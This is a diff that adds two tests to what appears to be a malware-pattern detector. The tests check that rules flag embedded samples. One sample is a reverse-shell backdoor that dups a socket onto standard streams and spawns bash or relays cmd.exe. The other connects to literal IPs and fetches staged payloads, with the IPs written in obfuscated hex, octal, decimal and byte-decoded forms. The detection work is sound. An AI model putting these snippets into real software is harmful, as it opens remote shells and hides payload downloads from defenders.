@@ -129,3 +129,36 @@ def test_an_api_client_sending_its_own_payload_and_platform_headers_stays_quiet(
     """
     assert "exfiltration.host-data" not in rules(source)
     assert below_medium(source)
+
+
+def test_backdoor_reverse_shell_streams_duplicated_in_a_loop_and_a_piped_shell_relayed_to_a_socket():
+    source = """
+    import os, pty, socket, subprocess
+
+    def attach(sock):
+        for fd in (0, 1, 2):
+            os.dup2(sock.fileno(), fd)
+        pty.spawn('/bin/bash')
+
+    def relay(sock):
+        shell = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        while True:
+            shell.stdin.write(sock.recv(1024))
+            sock.send(shell.stdout.read1(65536))
+    """
+    assert [line for rule, line in found(source) if rule == "backdoor.reverse-shell"] == [7, 10]
+
+
+def test_network_literal_ip_connection_through_names_folded_tuples_and_obscured_spellings():
+    source = """
+    import requests, socket
+    ADDRESS = ('203.0.113.77', 8443)
+    probe = socket.socket()
+    probe.connect(ADDRESS)
+    probe.connect((bytes([49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 49]).decode(), 4444))
+    requests.get('http://0xcb.0x0.0x71.0x2a/stage')
+    requests.get('http://0313.0000.0161.0052/p')
+    requests.get('http://3405803818/x')
+    """
+    lines = [line for rule, line in found(source) if rule == "network.literal-ip-connection"]
+    assert lines == [5, 6, 7, 8, 9]
